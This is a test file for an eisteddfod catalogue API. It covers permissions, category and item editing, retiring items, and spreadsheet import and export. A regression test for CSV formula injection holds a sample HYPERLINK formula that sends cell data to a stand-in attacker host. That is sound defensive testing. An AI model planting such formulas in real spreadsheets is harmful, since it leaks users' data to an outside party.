import type {
  ImportReport,
  ItemFieldsInput,
  ItemPage,
  StaffCatalogue,
  StaffCategory,
  StaffItem,
} from '@eisteddfod/shared';
import { and, eq } from 'drizzle-orm';
import readXlsx from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog } from '../../db/schema/index.ts';
import { createFamily } from '../../test/family.ts';
import { catalogueItems } from '../../test/fixtures.ts';
import { multipartFile } from '../../test/multipart.ts';
import { pdfText } from '../../test/pdf-text.ts';
import { createTestApp, type TestApp } from '../../test/test-app.ts';
import { createStaff, finalisedEntry } from '../adjudication/adjudication.test-helpers.ts';

let t: TestApp;
let organiser: Awaited<ReturnType<typeof createStaff>>;
let adjudicator: Awaited<ReturnType<typeof createStaff>>;
let base: string;

beforeAll(async () => {
  t = await createTestApp();
  organiser = await createStaff(t, 'organiser');
  adjudicator = await createStaff(t, 'adjudicator');
  base = `/api/Staff/Events/${t.eventId}`;
});
afterAll(async () => {
  await t.close();
});

const catalogue = async () => {
  const res = await organiser.call('GET', `${base}/Catalogue`);
  expect(res.statusCode, res.body).toBe(200);
  return res.json<StaffCatalogue>();
};
const categoryNamed = async (name: string) => {
  const found = (await catalogue()).categories.find((c) => c.name === name);
  if (!found) throw new Error(`no category ${name}`);
  return found;
};
const itemCoded = async (code: string) => {
  const found = (await catalogue()).items.find((i) => i.code === code);
  if (!found) throw new Error(`no item ${code}`);
  return found;
};
/** What an organiser would send to keep `item` as it is, with `changes`. */
const fieldsOf = (item: StaffItem, changes: Partial<ItemFieldsInput> = {}): ItemFieldsInput => {
  const { id: _id, entries: _e, paidEntries: _p, ...fields } = item;
  return { ...fields, ...changes };
};
/** What families find when they search the served catalogue. */
const familiesFind = async (search: string) => {
  const res = await t.app.inject({
    url: `/api/Eisteddfods/${t.eventId}/ItemsSearch?search=${encodeURIComponent(search)}&take=50`,
  });
  expect(res.statusCode, res.body).toBe(200);
  return res.json<ItemPage>().items.map((i) => i.code);
};
const exportSheet = async (format: 'csv' | 'xlsx') => {
  const res = await organiser.call('GET', `${base}/Catalogue/Export?format=${format}`);
  expect(res.statusCode, res.body).toBe(200);
  return res.rawPayload;
};
const importSheet = async (fileName: string, data: Buffer, commit = false) => {
  const { payload, headers } = multipartFile(fileName, data);
  const res = await t.app.inject({
    method: 'POST',
    url: `${base}/Catalogue/Import?commit=${commit}`,
    payload,
    headers: { ...headers, ...organiser.auth },
  });
  return res;
};
const csv = (rows: string[][]) =>
  Buffer.from(rows.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(',')).join('\n'));
const HEADER = [
  'Code',
  'Section',
  'Category',
  'Short description',
  'Price',
  'Due date',
  'Group item',
  'Minimum participants',
  'Maximum participants',
];

describe('who may edit the catalogue', () => {
  it('is organisers only: a family gets 404, an adjudicator 403, no one signed in 401', async () => {
    const family = await createFamily(t);
    const calls: [method: 'GET' | 'POST' | 'PUT' | 'DELETE', url: string, body?: unknown][] = [
      ['GET', `${base}/Catalogue`],
      ['GET', `${base}/Catalogue/Export?format=csv`],
      ['POST', `${base}/Catalogue/Import`, {}],
      ['POST', `${base}/Categories`, { name: 'x', section: 'Music' }],
      ['PUT', `${base}/Categories/1`, { name: 'x', section: 'Music' }],
      ['DELETE', `${base}/Categories/1`],
      ['POST', `${base}/Items`, {}],
      ['PUT', `${base}/Items/1`, {}],
      ['DELETE', `${base}/Items/1`],
    ];
    for (const [method, url, body] of calls) {
      expect((await family.call(method, url, body)).statusCode, `${method} ${url}`).toBe(404);
      expect((await adjudicator.call(method, url, body)).statusCode, `${method} ${url}`).toBe(403);
      const anonymous = await t.app.inject({ method, url, ...(body ? { payload: body } : {}) });
      expect(anonymous.statusCode, `${method} ${url}`).toBe(401);
    }
  });
});

describe('the catalogue as organisers see it', () => {
  it('has every item with its main file kinds and time limit, and each category with its count', async () => {
    const { items, categories } = await catalogue();
    expect(items).toHaveLength(189);
    expect(items.find((i) => i.code === 'DA101')).toMatchObject({
      mainFileKinds: ['video', 'audio'],
      timeLimitSeconds: 120,
      retired: false,
      entries: 0,
    });
    const visual = categories.find((c) => c.section === 'Visual Arts & Design');
    expect(items.find((i) => i.categoryId === visual?.id)?.mainFileKinds).toEqual([
      'image',
      'document',
    ]);
    expect(categories.reduce((sum, c) => sum + c.items, 0)).toBe(189);
  });

  it('answers 404 for an event that does not exist', async () => {
    expect((await organiser.call('GET', '/api/Staff/Events/999999/Catalogue')).statusCode).toBe(
      404,
    );
  });
});

describe('categories', () => {
  it('adds, renames and deletes an empty category; names are unique in the event', async () => {
    const added = await organiser.call('POST', `${base}/Categories`, {
      name: 'Marimba Ensembles',
      section: 'Music',
    });
    expect(added.statusCode, added.body).toBe(201);
    const category = added.json<StaffCategory>();
    expect(category).toMatchObject({ name: 'Marimba Ensembles', section: 'Music', items: 0 });

    const taken = await organiser.call('PUT', `${base}/Categories/${category.id}`, {
      name: 'poetry',
      section: 'Music',
    });
    expect(taken.statusCode).toBe(409);
    expect(taken.json()).toMatchObject({ code: 'CATEGORY_NAME_TAKEN' });

    const renamed = await organiser.call('PUT', `${base}/Categories/${category.id}`, {
      name: 'Marimba Bands',
      section: 'Music',
    });
    expect(renamed.statusCode, renamed.body).toBe(200);
    expect(renamed.json()).toMatchObject({ name: 'Marimba Bands' });

    const deleted = await organiser.call('DELETE', `${base}/Categories/${category.id}`);
    expect(deleted.statusCode).toBe(204);
  });

  it('keeps a category that has items', async () => {
    const poetry = await categoryNamed('Poetry');
    const res = await organiser.call('DELETE', `${base}/Categories/${poetry.id}`);
    expect(res.statusCode).toBe(409);
    expect(res.json()).toMatchObject({ code: 'CATEGORY_NOT_EMPTY' });
  });
});

describe('items', () => {
  it('adds an item that families find at once; codes are unique; its rules are checked', async () => {
    const poetry = await categoryNamed('Poetry');
    const fields: ItemFieldsInput = {
      code: 'da190',
      categoryId: poetry.id,
      shortDescription: 'Izibongo – Praise Poetry Ensemble (Grades 8–12)',
      description: 'A poem spoken by a group.',
      priceCents: 25000,
      dueDate: '2025-04-24',
      isGroupItem: true,
      minimumParticipants: 3,
      maximumParticipants: 20,
      requiresAnInstrument: false,
      mainFileKinds: ['video'],
      timeLimitSeconds: 240,
      retired: false,
    };
    const tooFew = await organiser.call('POST', `${base}/Items`, {
      ...fields,
      minimumParticipants: 21,
    });
    expect(tooFew.statusCode).toBe(400);
    expect(tooFew.json().message).toBe('The minimum number of participants is above the maximum.');
    const late = await organiser.call('POST', `${base}/Items`, {
      ...fields,
      dueDate: '2025-05-30',
    });
    expect(late.statusCode).toBe(400);
    expect(late.json().message).toBe(
      'The due date must lie inside the event: from 2025-03-24 to 2025-04-25.',
    );

    const added = await organiser.call('POST', `${base}/Items`, fields);
    expect(added.statusCode, added.body).toBe(201);
    expect(added.json<StaffItem>()).toMatchObject({ code: 'DA190', entries: 0, retired: false });
    expect(await familiesFind('Izibongo')).toEqual(['DA190']);

    const again = await organiser.call('POST', `${base}/Items`, fields);
    expect(again.statusCode).toBe(409);
    expect(again.json()).toMatchObject({ code: 'ITEM_CODE_TAKEN' });
  });

  it("keeps an item's main file kinds within its section's", async () => {
    const item = await itemCoded('DA101');
    const res = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(item, { mainFileKinds: ['image'] }),
    );
    expect(res.statusCode).toBe(400);
    expect(res.json().message).toBe(
      'An item of Dramatic Arts takes Video or Audio as its main file.',
    );
    const audioOnly = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(item, { mainFileKinds: ['audio'] }),
    );
    expect(audioOnly.json()).toMatchObject({ mainFileKinds: ['audio'] });
    await organiser.call('PUT', `${base}/Items/${item.id}`, fieldsOf(item));
  });

  it('changes a due date, and families see the new one at once', async () => {
    const item = await itemCoded('DA102');
    const res = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(item, { dueDate: '2025-04-22' }),
    );
    expect(res.statusCode, res.body).toBe(200);
    const served = await t.app.inject({
      url: `/api/Eisteddfods/${t.eventId}/ItemsSearch?search=DA102`,
    });
    expect(served.json<ItemPage>().items[0]?.dueDate).toBe('2025-04-22');
  });

  it('retires an entered item: it leaves new carts and searches, stays in the order, is never deleted', async () => {
    const [item] = (await catalogueItems(t)).filter((i) => i.code === 'DA102');
    if (!item) throw new Error('no DA102');
    const family = await createFamily(t);
    const entry = await finalisedEntry(t, family, item, {}, { finalise: false });

    const deleted = await organiser.call('DELETE', `${base}/Items/${item.id}`);
    expect(deleted.statusCode).toBe(409);
    expect(deleted.json()).toMatchObject({ code: 'ITEM_ENTERED' });

    const staffItem = await itemCoded('DA102');
    expect(staffItem).toMatchObject({ entries: 1, paidEntries: 1 });
    const repriced = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(staffItem, { priceCents: 17000 }),
    );
    expect(repriced.statusCode).toBe(409);
    expect(repriced.json()).toMatchObject({ code: 'ITEM_PRICE_FIXED' });

    const retired = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(staffItem, { retired: true }),
    );
    expect(retired.statusCode, retired.body).toBe(200);
    expect(await familiesFind('DA102')).toEqual([]);
    // The prospectus lists what families can enter.
    const prospectus = await t.app.inject({ url: '/api/documents/prospectus.pdf' });
    expect(pdfText(prospectus.rawPayload)).toContain('DA101');
    expect(pdfText(prospectus.rawPayload)).not.toContain('DA102');

    // Another family cannot put it in a cart; the family that has it still sees its order.
    const other = await createFamily(t);
    const cart = await other.openCart();
    const contestant = await other.addContestant();
    const add = await other.call('POST', `/api/Orders/${cart}/OrderItems`, {
      itemId: item.id,
      participantProfileId: contestant,
    });
    expect(add.statusCode).toBe(409);
    expect(add.json()).toMatchObject({
      code: 'ITEM_RETIRED',
      message: 'This item is no longer offered. Please choose another item.',
    });
    const order = await family.call('GET', `/api/Orders/${entry.orderId}`);
    expect(order.statusCode).toBe(200);
    expect(order.body).toContain('DA102');

    const [line] = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'item.retire'), eq(auditLog.entityId, String(item.id))));
    expect(line?.actorCustomerId).toBe(organiser.id);
    expect(line?.details).toMatchObject({ before: { retired: false }, after: { retired: true } });

    const restored = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(staffItem, { retired: false }),
    );
    expect(restored.statusCode).toBe(200);
    expect(await familiesFind('DA102')).toEqual(['DA102']);
  });

  it('deletes an item nobody entered', async () => {
    const item = await itemCoded('DA190');
    expect((await organiser.call('DELETE', `${base}/Items/${item.id}`)).statusCode).toBe(204);
    expect(await familiesFind('Izibongo')).toEqual([]);
  });
});

describe('spreadsheets', () => {
  it.each(['csv', 'xlsx'] as const)(
    'exports %s that imports back with nothing changed, and exports the same again',
    async (format) => {
      const first = await exportSheet(format);
      const dryRun = await importSheet(`catalogue.${format}`, first);
      expect(dryRun.statusCode, dryRun.body).toBe(200);
      expect(dryRun.json<ImportReport>()).toEqual({
        committed: false,
        rows: 189,
        created: 0,
        updated: 0,
        unchanged: 189,
        problems: [],
      });
      const committed = await importSheet(`catalogue.${format}`, first, true);
      expect(committed.json<ImportReport>()).toMatchObject({ committed: true, unchanged: 189 });
      const second = await exportSheet(format);
      if (format === 'csv') expect(second.equals(first)).toBe(true);
      else expect(await readXlsx(second)).toEqual(await readXlsx(first));
    },
  );

  it('exports a description that looks like a formula as text, and imports it back unchanged', async () => {
    // Security review (issue 30): the catalogue CSV wrote cells as they were, so a description
    // saved as a formula ran when the next organiser opened the export in a spreadsheet.
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    const item = await itemCoded('DA103');
    const saved = await organiser.call(
      'PUT',
      `${base}/Items/${item.id}`,
      fieldsOf(item, { description: formula }),
    );
    expect(saved.statusCode, saved.body).toBe(200);
    const exported = await exportSheet('csv');
    const row = exported
      .toString('utf8')
      .split('\n')
      .find((r) => r.startsWith('DA103,'));
    expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`);
    const dryRun = await importSheet('catalogue.csv', exported);
    expect(dryRun.json<ImportReport>()).toMatchObject({ updated: 0, problems: [] });
    expect((await itemCoded('DA103')).description).toBe(formula);
    await organiser.call('PUT', `${base}/Items/${item.id}`, fieldsOf(item));
  });

  it('exports the columns an organiser reads, with prices in rand and limits in minutes', async () => {
    const text = (await exportSheet('csv')).toString('utf8');
    const [header, ...rows] = text.replace(/^\uFEFF/, '').split('\n');
    expect(header).toBe(
      'Code,Section,Category,Short description,Description,Price,Due date,Group item,Minimum participants,Maximum participants,Instrument required,Main file kinds,Time limit,Retired,Grades,Other grades allowed,Short description (af),Description (af)',
    );
    const da101 = rows.find((r) => r.startsWith('DA101,'));
    // Grades as 'R to 3', never '4-7', which a spreadsheet takes for a date (decision 042).
    expect(da101).toContain(',160.00,2025-04-24,No,1,1,No,"Video, Audio",2:00,No,R to 3,No');
  });

  it('lists every problem of every row and writes nothing until the sheet is right', async () => {
    const before = await catalogue();
    const da104 = await itemCoded('DA104');
    const bad = csv([
      HEADER,
      ['MU900', 'Music', 'Piano', 'Piano – Jazz Standards', '160', '2025-04-24', 'No', '1', '1'],
      ['MU900', 'Music', 'Piano', 'Piano – again', '160', '2025-04-24', 'No', '1', '1'],
      ['MU901', 'Music', 'Nose Flute', 'Nose flute solo', '160', '2025-04-24', 'No', '1', '1'],
      ['MU902', 'Music', 'Piano', 'Piano duet', '250', '2025-04-24', 'Yes', '4', '2'],
      ['MU903', 'Music', 'Piano', 'Piano late', '160', '2026-01-01', 'No', '1', '1'],
      ['MU904', 'Music', 'Piano', 'Piano cheap', 'free', '24/04/2025', 'No', '1', '1'],
    ]);
    const res = await importSheet('bad.csv', bad, true);
    expect(res.statusCode, res.body).toBe(200);
    const report = res.json<ImportReport>();
    expect(report.committed).toBe(false);
    expect(report.problems.map((p) => [p.row, p.code, p.column])).toEqual([
      [3, 'DUPLICATE_CODE', 'Code'],
      [4, 'UNKNOWN_CATEGORY', 'Category'],
      [5, 'RULE', 'Minimum participants'],
      [6, 'RULE', 'Due date'],
      [7, 'UNREADABLE', 'Price'],
    ]);
    expect(report.problems[1]?.message).toBe(
      'There is no category Nose Flute in this event. Add it first, or use one of the event’s categories.',
    );
    expect((await catalogue()).items).toHaveLength(before.items.length);

    const fixed = csv([
      HEADER,
      ['MU900', 'Music', 'Piano', 'Piano – Jazz Standards', '160', '2025-04-24', 'No', '1', '1'],
      [
        'DA101',
        'Dramatic Arts',
        'Poetry',
        'Poetry – Own Choice (Grade R–3)',
        '160',
        '2025-04-24',
        'No',
        '1',
        '1',
      ],
      [
        'DA104',
        'Dramatic Arts',
        'Poetry',
        'Poetry – a new title',
        '160',
        '24/04/2025',
        'No',
        '1',
        '1',
      ],
    ]);
    const ok = await importSheet('fixed.csv', fixed, true);
    expect(ok.json<ImportReport>()).toMatchObject({
      committed: true,
      rows: 3,
      created: 1,
      updated: 1,
      unchanged: 1,
      problems: [],
    });
    expect(await familiesFind('Jazz Standards')).toEqual(['MU900']);
    // Columns the sheet left out keep the item's values.
    expect(await itemCoded('DA104')).toMatchObject({
      shortDescription: 'Poetry – a new title',
      timeLimitSeconds: da104.timeLimitSeconds,
      description: da104.description,
      mainFileKinds: ['video', 'audio'],
    });
  });

  it('reads grades from the sheet, and names a range it cannot read (decision 042)', async () => {
    const da101 = await itemCoded('DA101');
    const row = (grades: string, others: string) => [
      'DA101',
      'Dramatic Arts',
      'Poetry',
      da101.shortDescription,
      '160',
      '2025-04-24',
      'No',
      '1',
      '1',
      grades,
      others,
    ];
    const header = [...HEADER, 'Grades', 'Other grades allowed'];
    const bad = await importSheet('bad.csv', csv([header, row('7-4', 'No')]), true);
    expect(bad.json<ImportReport>().problems).toEqual([
      {
        row: 2,
        code: 'UNREADABLE',
        column: 'Grades',
        message:
          'Grades “7-4” is not a range of grades such as R to 3, 4 to 7 or 10 (empty: every grade).',
      },
    ]);
    const ok = await importSheet('ok.csv', csv([header, row('Grades 4–7', 'Yes')]), true);
    expect(ok.json<ImportReport>()).toMatchObject({ committed: true, updated: 1, problems: [] });
    expect(await itemCoded('DA101')).toMatchObject({
      grades: { lowest: '4', highest: '7' },
      otherGradesAllowed: true,
    });
    const served = await t.app.inject({
      url: `/api/Eisteddfods/${t.eventId}/ItemsSearch?search=DA101`,
    });
    expect(served.json<ItemPage>().items[0]).toMatchObject({
      grades: { lowest: '4', highest: '7' },
      otherGradesAllowed: true,
    });
    // An empty cell: every grade. Then back as it was.
    await importSheet('open.csv', csv([header, row('', 'No')]), true);
    expect((await itemCoded('DA101')).grades).toBeNull();
    const back = await organiser.call('PUT', `${base}/Items/${da101.id}`, fieldsOf(da101));
    expect(back.json<StaffItem>()).toMatchObject({ grades: { lowest: 'R', highest: '3' } });
  });

  it("keeps an item's grades when a page of the previous release saves it without them", async () => {
    const da102 = await itemCoded('DA102');
    const { grades: _g, otherGradesAllowed: _o, ...older } = fieldsOf(da102);
    const saved = await organiser.call('PUT', `${base}/Items/${da102.id}`, older);
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json<StaffItem>()).toMatchObject({
      grades: { lowest: '4', highest: '7' },
      otherGradesAllowed: false,
    });
  });

  it('refuses a file that is not a spreadsheet, and a sheet without its columns', async () => {
    const binary = await importSheet('old.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]));
    expect(binary.statusCode).toBe(415);
    expect(binary.json()).toMatchObject({ code: 'IMPORT_UNREADABLE' });
    const columns = await importSheet('x.csv', Buffer.from('Name,Cost\nPiano,160\n'));
    expect(columns.json<ImportReport>().problems.map((p) => p.code)).toEqual([
      'UNKNOWN_COLUMN',
      'UNKNOWN_COLUMN',
      'MISSING_COLUMN',
      'MISSING_COLUMN',
      'MISSING_COLUMN',
      'MISSING_COLUMN',
      'MISSING_COLUMN',
    ]);
  });
});
